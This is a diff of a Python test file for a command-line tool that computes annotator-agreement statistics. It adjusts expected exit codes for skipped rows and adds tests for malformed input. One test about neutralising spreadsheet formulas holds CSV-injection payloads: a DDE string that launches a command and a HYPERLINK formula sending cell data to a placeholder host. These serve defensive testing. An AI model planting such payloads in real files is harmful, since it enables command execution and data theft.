@@ -16,9 +16,10 @@ from stats_cli.cli import app
 runner = CliRunner()
 
 
-def run_json(*args: str) -> dict:
+def run_json(*args: str, code: int = 0) -> dict:
+    """Run with --json; ``code`` 3 = the result was printed but input rows were skipped."""
     result = runner.invoke(app, [*args, "--json"])
-    assert result.exit_code == 0, result.output
+    assert result.exit_code == code, result.output
     return json.loads(result.stdout)
 
 
@@ -36,7 +37,7 @@ def article_file(tmp_path: Path) -> Path:
 
 
 def test_agreement_reproduces_article_example(tmp_path: Path) -> None:
-    out = run_json("agreement", str(article_file(tmp_path)), "--positive", "toxic")
+    out = run_json("agreement", str(article_file(tmp_path)), "--positive", "toxic", code=3)
     assert out["n_items"] == 100 and out["n_annotators"] == 2 and out["n_ratings"] == 200
     assert round(out["cohen_kappa"], 2) == 0.16 and round(out["fleiss_kappa"], 2) == 0.16
     assert out["positive_agreement"] == pytest.approx(0.2) and out["pct_agreement"] == pytest.approx(0.92)
@@ -47,7 +48,7 @@ def test_agreement_reproduces_article_example(tmp_path: Path) -> None:
 
 def test_agreement_tables_and_stderr(tmp_path: Path) -> None:
     result = runner.invoke(app, ["agreement", str(article_file(tmp_path)), "--positive", "toxic"])
-    assert result.exit_code == 0
+    assert result.exit_code == 3  # the two bad rows were skipped
     assert "fleiss_kappa" in result.stdout and "0.158" in result.stdout
     assert "line 6" in result.stderr and "2 bad row(s) skipped" in result.stderr
 
@@ -76,9 +77,9 @@ def test_aggregate_strict_writes_out_file(tmp_path: Path) -> None:
         {"item": "b", "annotator": "w2", "label": 0},
     ]) + "nope\n")
     dest = tmp_path / "agg.csv"
-    out = run_json("aggregate", str(src), "--method", "strict", "--negative", "0", "--out", str(dest))
+    out = run_json("aggregate", str(src), "--method", "strict", "--negative", "0", "--out", str(dest), code=3)
     assert [i["label"] for i in out["items"]] == ["0", "0"] and out["errors"][0]["line"] == 6
-    majority = run_json("aggregate", str(src), "--method", "majority", "--negative", "0")
+    majority = run_json("aggregate", str(src), "--method", "majority", "--negative", "0", code=3)
     assert [(i["label"], i["tie"]) for i in majority["items"]] == [("1", False), ("0", True)]
     assert dest.read_text().splitlines()[1].startswith("a,0,0.333")
 
@@ -100,7 +101,7 @@ def test_stratify_from_annotations(tmp_path: Path) -> None:
         f"{i},{a},{lab}\n" for i, labs in enumerate(["111", "110", "000", "001", "100"]) for a, lab in zip("xyz", labs)))
     preds = tmp_path / "preds.csv"
     preds.write_text("item,prediction\n0,1\n1,0\n2,0\n3,1\n4,0\n9,1\n")
-    out = run_json("stratify", str(preds), "--annotations", str(ann), "--pred-col", "prediction")
+    out = run_json("stratify", str(preds), "--annotations", str(ann), "--pred-col", "prediction", code=3)
     strata = {s["p_d"]: s for s in out["strata"]}
     assert strata[1.0]["n"] == 2 and strata[0.67]["n"] == 3 and strata["all"]["n"] == 5
     assert strata[1.0]["accuracy"] == 1.0 and strata[0.67]["accuracy"] == pytest.approx(1 / 3)
@@ -119,14 +120,14 @@ def test_confidence_bins_and_rerank_on_scored_items(tmp_path: Path) -> None:
     rows.append({"id": "bad", "original": "0", "prediction": "1", "confidence": "n/a", "gold": "1"})
     path = tmp_path / "scored.jsonl"
     path.write_text("".join(json.dumps(r) + "\n" for r in rows))
-    out = run_json("confidence-bins", str(path), "--bins", "4", "--resamples", "200", "--seed", "1")
+    out = run_json("confidence-bins", str(path), "--bins", "4", "--resamples", "200", "--seed", "1", code=3)
     assert [b["n"] for b in out["bins"]] == [10, 10, 10, 10] and out["n_skipped"] == 1
     assert out["bins"][0]["llm"]["share"] == 0.0 and out["bins"][-1]["llm"]["share"] == 1.0
-    assert out == run_json("confidence-bins", str(path), "--bins", "4", "--resamples", "200", "--seed", "1")
+    assert out == run_json("confidence-bins", str(path), "--bins", "4", "--resamples", "200", "--seed", "1", code=3)
     for r in rows[:-1]:
         r["model"] = "ensemble"
     path.write_text("".join(json.dumps(r) + "\n" for r in rows))
-    models = run_json("rerank", str(path))["models"]
+    models = run_json("rerank", str(path), code=3)["models"]
     assert models[0]["model"] == "ensemble" and models[0]["accuracy_gold"] == pytest.approx(24 / 40)
 
 
@@ -135,7 +136,7 @@ def test_real_process_entry_point(tmp_path: Path) -> None:
         [sys.executable, "-m", "stats_cli.cli", "agreement", str(article_file(tmp_path)), "--json"],
         capture_output=True, text=True, timeout=120, cwd=Path(__file__).resolve().parents[2],
     )
-    assert proc.returncode == 0, proc.stderr
+    assert proc.returncode == 3, proc.stderr  # result printed, bad rows skipped
     assert json.loads(proc.stdout)["n_skipped"] == 2
 
 
@@ -171,3 +172,46 @@ def test_aggregate_out_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
         assert rows["plain"]["label"] == "'=1+1" and rows["'+cmd|' /C calc'!A0"]["label"] == "'-2+3"
         assert rows["'-x"]["label"] == "-1"  # a number stays a number
         assert rows["'=HYPERLINK(\"http://x.test/?\"&A1,\"open\")"]["label"] == "'@SUM(1+1)"
+
+
+def run_status(*args: str) -> tuple[int, dict]:
+    result = runner.invoke(app, [*args, "--json"])
+    return result.exit_code, json.loads(result.stdout)
+
+
+def test_an_invalid_utf8_byte_is_one_bad_row_with_its_line(tmp_path: Path) -> None:
+    path = tmp_path / "ratings.csv"
+    path.write_bytes(b"item,annotator,label\n1,a,0\n1,b,0\n2,a,\xff\n2,b,1\n3,a,1\n3,b,1\n")
+    code, out = run_status("agreement", str(path))
+    assert [e["line"] for e in out["errors"]] == [4] and "UTF-8" in out["errors"][0]["message"]
+    assert out["n_ratings"] == 5 and code == 3  # the rest was read; rows were dropped, so not 0
+
+
+def test_a_field_over_the_csv_limit_does_not_end_the_file(tmp_path: Path) -> None:
+    path = tmp_path / "ratings.csv"
+    rows = ["item,annotator,label", "1,a,0", "1,b,0", f"2,a,{'x' * 200_000}", "2,b,1", "3,a,1", "3,b,1"]
+    path.write_text("\n".join(rows) + "\n")
+    code, out = run_status("agreement", str(path))
+    assert [e["line"] for e in out["errors"]] == [4]
+    assert out["n_ratings"] == 5 and code == 3
+
+
+def test_labels_that_are_not_labels_are_rejected_per_row(tmp_path: Path) -> None:
+    path = tmp_path / "ratings.jsonl"
+    good = [{"item": i, "annotator": a, "label": (i + j) % 2} for i in range(3) for j, a in enumerate("ab")]
+    bad = ['{"item": 9, "annotator": "a", "label": "to\\u0000xic"}', '{"item": 9, "annotator": "b", "label": [1, 0]}',
+           '{"item": 9, "annotator": "c", "label": {"v": 1}}', '{"item": 9, "annotator": "d", "label": Infinity}',
+           '{"item": 9, "annotator": "e", "label": NaN}', '{"item": 9, "annotator": "f", "label": "-inf"}']
+    path.write_text("".join(json.dumps(r) + "\n" for r in good) + "\n".join(bad) + "\n")
+    code, out = run_status("agreement", str(path))
+    assert [e["line"] for e in out["errors"]] == [7, 8, 9, 10, 11, 12], out["errors"]
+    reasons = " | ".join(e["message"] for e in out["errors"])
+    for word in ("NUL", "list", "object", "finite"):
+        assert word in reasons
+    assert out["categories"] == ["0", "1"] and out["n_ratings"] == 6 and code == 3
+
+
+def test_a_clean_file_exits_0(tmp_path: Path) -> None:
+    path = tmp_path / "ratings.csv"
+    path.write_text("item,annotator,label\n1,a,0\n1,b,0\n2,a,1\n2,b,1\n")
+    assert run_status("agreement", str(path))[0] == 0
